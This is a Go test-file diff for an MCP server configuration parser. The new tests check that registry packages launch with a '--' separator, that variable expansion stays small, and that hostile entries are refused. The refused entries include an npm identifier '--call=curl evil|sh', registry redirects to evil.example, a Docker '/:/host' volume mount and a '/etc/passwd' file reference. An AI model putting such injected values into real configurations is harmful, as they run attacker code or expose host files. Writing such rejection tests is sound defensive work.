@@ -2,6 +2,7 @@ package config
 
 import (
 	"fmt"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -26,16 +27,16 @@ func TestPackagesOfTheRegistry(t *testing.T) {
 	}
 	for _, test := range []struct{ packages, want string }{
 		{`{"registryType": "pypi", "registryBaseUrl": "https://pypi.org/", "identifier": "weather", "version": "1.0"}`, `uvx ["weather@1.0"] map[]`},
-		{`{"registryType": "npm", "identifier": "@a/weather", "runtimeArguments": [{"type": "named", "name": "--quiet", "value": "1"}]}`, `npx ["-y" "--quiet" "1" "@a/weather"] map[]`},
+		{`{"registryType": "npm", "identifier": "@a/weather", "runtimeArguments": [{"type": "named", "name": "--quiet", "value": "1"}]}`, `npx ["-y" "--quiet" "1" "--" "@a/weather"] map[]`},
 		{
 			`{"registryType": "oci", "identifier": "a/weather", "version": "1.0", "environmentVariables": [{"name": "B", "value": "b"}, {"name": "A", "default": "a"}, {"name": "C"}]}`,
-			`docker ["run" "-i" "--rm" "-e" "A" "-e" "B" "a/weather:1.0"] map[A:a B:b]`,
+			`docker ["run" "-i" "--rm" "-e" "A" "-e" "B" "--" "a/weather:1.0"] map[A:a B:b]`,
 		},
-		{`{"registryType": "oci", "identifier": "ghcr.io:443/a/weather:2.0", "version": "1.0"}`, `docker ["run" "-i" "--rm" "ghcr.io:443/a/weather:2.0"] map[]`},
-		{`{"registryType": "nuget", "identifier": "x"}, {"registryType": "npm", "identifier": "y", "transport": {"type": "sse"}}, {"registryType": "npm", "identifier": "z"}`, `npx ["-y" "z"] map[]`},
+		{`{"registryType": "oci", "identifier": "ghcr.io:443/a/weather:2.0", "version": "1.0"}`, `docker ["run" "-i" "--rm" "--" "ghcr.io:443/a/weather:2.0"] map[]`},
+		{`{"registryType": "nuget", "identifier": "x"}, {"registryType": "npm", "identifier": "y", "transport": {"type": "sse"}}, {"registryType": "npm", "identifier": "z"}`, `npx ["-y" "--" "z"] map[]`},
 		{
 			`{"registryType": "npm", "identifier": "x", "packageArguments": [{"type": "positional", "valueHint": "folder", "isRequired": true, "choices": ["a", "b"]}, {"type": "named", "name": "--$", "value": "$5"}]}`,
-			`npx ["-y" "x" "answer" "--$" "$5"] map[]`,
+			`npx ["-y" "--" "x" "answer" "--$" "$5"] map[]`,
 		},
 	} {
 		s := described(t, `{"name": "io.github.a/weather", "packages": [`+test.packages+`]}`, ask)
@@ -57,7 +58,7 @@ func TestServersOfTheRegistryThatAreRefused(t *testing.T) {
 		`{"name": "a/x", "packages": {"npm": "x"}}`:                                                                                               `"packages" is not as a server.json has it`,
 		`{"name": "a/x", "remotes": [{"type": "sse", "url": "https://x/${A}"}]}`:                                                                  `"${" has no meaning in a server.json`,
 		`{"name": "a/x", "remotes": [{"type": "sse", "url": "https://x", "headers": [{"name": "H", "value": "\u0024{file:/etc/passwd}"}]}]}`:      `"${" has no meaning in a server.json`,
-		`{"name": "a/x", "remotes": [{"type": "sse", "url": "https://x/{b}{c}", "variables": {"b": {"default": "$"}, "c": {"default": "{A}"}}}]}`: `"${" has no meaning in a server.json`,
+		`{"name": "a/x", "remotes": [{"type": "sse", "url": "https://x/{b}{c}", "variables": {"b": {"default": "$"}, "c": {"default": "{1}"}}}]}`: `"${" has no meaning in a server.json`,
 	} {
 		_, err := parse([]byte(data), source{env: environment("A=secret")})
 		assert.ErrorContains(t, err, want, data)
@@ -91,5 +92,137 @@ func TestBundles(t *testing.T) {
 	} {
 		_, err := parse([]byte(data), source{env: environment()})
 		assert.ErrorContains(t, err, want)
+	}
+}
+
+// Variables that name others would make 4^11 bytes of these, and more with each level.
+func TestValuesOfTheRegistryStaySmall(t *testing.T) {
+	t.Parallel()
+	published := func(arguments string) string {
+		return `{"name": "x", "packages": [{"registryType": "npm", "identifier": "p", "packageArguments": [` + arguments + `]}]}`
+	}
+	siblings, nested := "", `{"default": "x"}`
+	for c := 'a'; c < 'l'; c++ {
+		siblings += fmt.Sprintf(`"%c": {"default": "{%[2]c}{%[2]c}{%[2]c}{%[2]c}"}, `, c, c+1)
+		nested = `{"default": "{v}{v}{v}{v}", "variables": {"v": ` + nested + `}}`
+	}
+	half := fmt.Sprintf(`{"value": "{v}{v}", "variables": {"v": {"default": "%s"}}}`, strings.Repeat("x", maxValue/2))
+	for arguments, want := range map[string]string{
+		`{"value": "{a}", "variables": {` + siblings + `"l": {"default": "x"}}}`: `"{b}" is not in "variables"`,
+		nested:                               `"{v}" makes a value of more than 65536 bytes`,
+		strings.Repeat(half+", ", 16) + half: "the values with their variables have more than 1048576 bytes",
+	} {
+		_, err := parse([]byte(published(arguments)), source{env: environment()})
+		assert.ErrorContains(t, err, want)
+	}
+	s := described(t, published(half), nil)
+	require.NoError(t, s.err)
+	assert.Len(t, s.Args[3], maxValue)
+}
+
+func TestVariablesOfTheRegistryWithoutValue(t *testing.T) {
+	t.Parallel()
+	remote := func(members string) string {
+		return `{"name": "x", "remotes": [{"type": "streamable-http", ` + members + `}]}`
+	}
+	pack := func(members string) string {
+		return `{"name": "x", "packages": [{"registryType": "npm", "identifier": "p", ` + members + `}]}`
+	}
+	for data, want := range map[string]string{
+		remote(`"url": "https://x/mcp", "headers": [{"name": "Authorization", "value": "Bearer {token}", "isRequired": true}]`): `"{token}" is not in "variables"`,
+		remote(`"url": "https://x/{tenant}/mcp"`):                                                                                             `"{tenant}" is not in "variables"`,
+		pack(`"environmentVariables": [{"name": "K", "value": "{token}"}]`):                                                                   `"{token}" is not in "variables"`,
+		pack(`"packageArguments": [{"type": "named", "name": "--{n}", "value": "x"}]`):                                                        `"{n}" is not in "variables"`,
+		pack(`"packageArguments": [{"value": "{a}", "variables": {"a": {"default": "{b}"}, "b": {"default": "{a}"}}}]`):                       `"{b}" is not in "variables"`,
+		pack(`"packageArguments": [{"value": "$\u0000\u0000{env:A}"}]`):                                                                       "has a NUL byte",
+		pack(`"packageArguments": [{"valueHint": "x}${env:A", "isRequired": true}]`):                                                          `"x}${env:A" can't be asked for`,
+		pack(`"packageArguments": [{"value": "{v}", "variables": {"v": {"default": "a{b}", "variables": {"c": {"default": "not asked"}}}}}]`): `"{b}" is not in "variables"`,
+	} {
+		_, err := parse([]byte(data), source{env: environment("A=secret")})
+		assert.ErrorContains(t, err, want, data)
+	}
+	s := described(t, remote(`"url": "https://x/mcp", "headers": [{"name": "Authorization", "value": "Bearer {token}", "variables": {"token": {}}}]`), nil)
+	require.NoError(t, s.err)
+	assert.Empty(t, s.Headers)
+	s = described(t, pack(`"environmentVariables": [{"name": "K", "value": "a{v}", "variables": {"v": {}}}], "packageArguments": [{"type": "named", "name": "--k", "value": "{v}b", "variables": {"v": {}}}, {"value": "{\"a\": 1}"}]`), nil)
+	require.NoError(t, s.err)
+	assert.Equal(t, []string{"-y", "--", "p", `{"a": 1}`}, s.Args)
+	assert.Empty(t, s.Env)
+	s = described(t, remote(`"url": "https://{host}/mcp", "variables": {"host": {}}`), func(in Input) (string, error) { return in.ID + ".example", nil })
+	require.NoError(t, s.err)
+	assert.Equal(t, "https://host.example/mcp", s.URL)
+}
+
+func TestPackagesFromElsewhereAreRefused(t *testing.T) {
+	t.Parallel()
+	pack := func(kind, identifier, members string) string {
+		return fmt.Sprintf(`{"registryType": %q, "identifier": %q%s}`, kind, identifier, members)
+	}
+	option := func(arg string) string {
+		return `, "runtimeArguments": [{"type": "positional", "value": "` + arg + `"}]`
+	}
+	variable := func(name string) string { return `, "environmentVariables": [{"name": "` + name + `", "value": "x"}]` }
+	for _, p := range []string{
+		pack("npm", "--call=curl evil|sh", ""), pack("npm", "--registry=https://evil.example", ""), pack("npm", "https://evil.example/x.tgz", ""), pack("npm", "file:../x", ""), pack("npm", "evil/x", ""), pack("npm", "", ""),
+		pack("npm", "p", `, "version": "https://evil.example/x.tgz"`), pack("npm", "p", `, "version": "npm:evil"`),
+		pack("npm", "p", `, "runtimeArguments": [{"type": "named", "name": "--registry", "value": "https://evil.example"}]`),
+		pack("npm", "p", option("--registry=x")), pack("npm", "p", option("-reg=x")), pack("npm", "p", option("--@a:registry=x")), pack("npm", "p", option("-yc")), pack("npm", "p", option("--call")), pack("npm", "p", option("evil/x")),
+		pack("npm", "p", variable("npm_config_registry")),
+		pack("pypi", "--index-url=https://evil.example", ""), pack("pypi", "p @ https://evil.example", ""), pack("pypi", ".", ""),
+		pack("pypi", "p", option("--index=x")), pack("pypi", "p", option("--from=git+https://evil.example")), pack("pypi", "p", option(".")), pack("pypi", "p", option("-ix")),
+		pack("pypi", "p", variable("UV_INDEX")),
+		pack("oci", "--volume=/:/host", ""), pack("oci", "https://evil.example/image", ""), pack("oci", "a b", ""), pack("oci", "a/b", variable("DOCKER_HOST")), pack("oci", "a/b", variable("KEY=")),
+	} {
+		file, err := Parse([]byte(`{"$schema": "s", "name": "x", "packages": [`+p+`]}`), "server.json", nil)
+		assert.Error(t, err, "%+v", file.Servers)
+	}
+	for _, p := range []string{
+		pack("npm", "@a/b.c-d_e", `, "version": "1.0.0-rc.1+x"`), pack("npm", "p@1.0", option("--prefer-offline")), pack("pypi", "a.b[c,d]", `, "version": "1!2.0"`), pack("pypi", "p==1.0", option("--from=q==2.0")),
+		pack("pypi", "p", `, "runtimeArguments": [{"type": "named", "name": "--python", "value": "3.12"}]`),
+		pack("oci", "ghcr.io:443/a/b@sha256:00ff", option("--volume=/x:/y")),
+	} {
+		_, err := Parse([]byte(`{"$schema": "s", "name": "x", "packages": [`+p+`]}`), "server.json", nil)
+		assert.NoError(t, err, p)
+	}
+}
+
+// To encoding/json, keys that differ by letter case only are one key.
+func TestKeysTwiceInBundlesAndPublishedServers(t *testing.T) {
+	t.Parallel()
+	bundle := func(config string) string { return `{"name": "b", "server": {"mcp_config": {` + config + `}}}` }
+	published := func(members string) string { return `{"name": "x/y", ` + members + `}` }
+	for data, key := range map[string]string{
+		bundle(`"command": "good", "command": "evil"`):                                                                             "command",
+		bundle(`"command": "good", "COMMAND": "evil"`):                                                                             "COMMAND",
+		bundle(`"command": "good", "platform_overrides": {"linux": {"arg\u017f": [], "args": []}}`):                                "args",
+		bundle(`"command": "good", "env": {"A": "good", "A": "evil"}`):                                                             "A",
+		`{"name": "b", "server": {"mcp_config": {"command": "good"}}, "SERVER": {"mcp_config": {"command": "evil"}}}`:              "SERVER",
+		published(`"packages": [{"registryType": "npm", "identifier": "good", "identifier": "evil"}]`):                             "identifier",
+		published(`"packages": [{"registryType": "npm", "identifier": "good", "Identifier": "evil"}]`):                             "Identifier",
+		published(`"packages": [{"registryType": "npm", "identifier": "a", "packageArguments": [[], {"x": {"a": [1], "A": 2}}]}]`): "A",
+		published(`"remotes": [{"type": "sse", "url": "https://good", "url": "https://evil"}]`):                                    "url",
+	} {
+		_, err := parse([]byte(data), source{env: environment()})
+		assert.EqualError(t, err, fmt.Sprintf("%q is there twice", key), data)
+	}
+	s := described(t, bundle(`"command": "x", "args": ["a", "a"], "env": {"http_proxy": "1", "HTTP_PROXY": "2"}`), nil)
+	require.NoError(t, s.err)
+	assert.Equal(t, map[string]string{"http_proxy": "1", "HTTP_PROXY": "2"}, s.Env)
+}
+
+func TestDisabledBundlesAndPublishedServers(t *testing.T) {
+	t.Parallel()
+	for _, data := range []string{
+		`{"name": "b", "disabled": %s, "server": {"mcp_config": {"command": "x"}}}`,
+		`{"name": "b", "server": {"mcp_config": {"command": "x", "disabled": %s}}}`,
+		`{"name": "x", "disabled": %s, "remotes": [{"type": "sse", "url": "https://x"}]}`,
+		`{"name": "x", "remotes": [{"type": "sse", "url": "https://x", "disabled": %s}]}`,
+		`{"name": "x", "packages": [{"registryType": "npm", "identifier": "x", "disabled": %s}]}`,
+	} {
+		for _, disabled := range []bool{true, false} {
+			s := described(t, fmt.Sprintf(data, fmt.Sprint(disabled)), nil)
+			require.NoError(t, s.err)
+			assert.Equal(t, disabled, s.Disabled, data)
+		}
 	}
 }
